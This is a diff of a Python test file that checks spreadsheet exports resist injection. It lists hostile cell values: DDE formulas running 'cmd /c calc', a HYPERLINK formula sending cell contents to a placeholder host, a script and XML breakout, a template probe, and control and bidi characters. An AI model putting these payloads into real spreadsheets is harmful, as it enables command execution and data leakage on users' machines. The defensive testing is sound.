@@ -30,15 +30,15 @@ from tests.architecture.test_hidden_walk import signed_in, things_of
 FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
 LONGEST_CELL = 32_767  # characters, Excel's own limit
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-HOSTILE = {
+HOSTILE = {  # none longer than the shortest name takes: 40 letters
     "formula": "=cmd|'/c calc'!A1",
     "plus": "+1+cmd|'/c calc'!A1",
     "minus": "-2+3+cmd|'/c calc'!A1",
     "at": "@SUM(1+1)*cmd|'/c calc'!A1",
-    "link": '=HYPERLINK("http://example.invalid/"&A1,"按此")',
+    "link": '=HYPERLINK("http://a.invalid/"&A1,"按此")',
     "tab": "\t=1+1",
     "carriage return": "\r=1+1",
-    "script": "<script>alert(1)</script>]]></t><f>1+1</f>",
+    "script": "<script>alert(1)</script></t><f>1+1</f>",
     "template": "{{ 7 * 191 }}{% for x in y %}",
     "control": "井\x01盖\x0b缺\x1f失",
     "direction": "井\u202e盖\u2066缺失\u2069",
@@ -126,7 +126,7 @@ def _check_part(name: str, content: bytes, route: str) -> None:
     text = content.decode()
     root = ET.fromstring(text)  # noqa: S314 - written by us
     assert not FORBIDDEN.search("".join(root.itertext())), (route, name)
-    assert "example.invalid" not in text or not name.endswith(".rels"), (route, name)
+    assert "a.invalid" not in text or not name.endswith(".rels"), (route, name)
     assert "1337" not in "".join(root.itertext()), (route, name)
     formulas = [formula.text or "" for formula in root.iter(f"{MAIN}f")]
     assert not [formula for formula in formulas if "cmd" in formula or "HYPERLINK" in formula or "1+1" in formula]
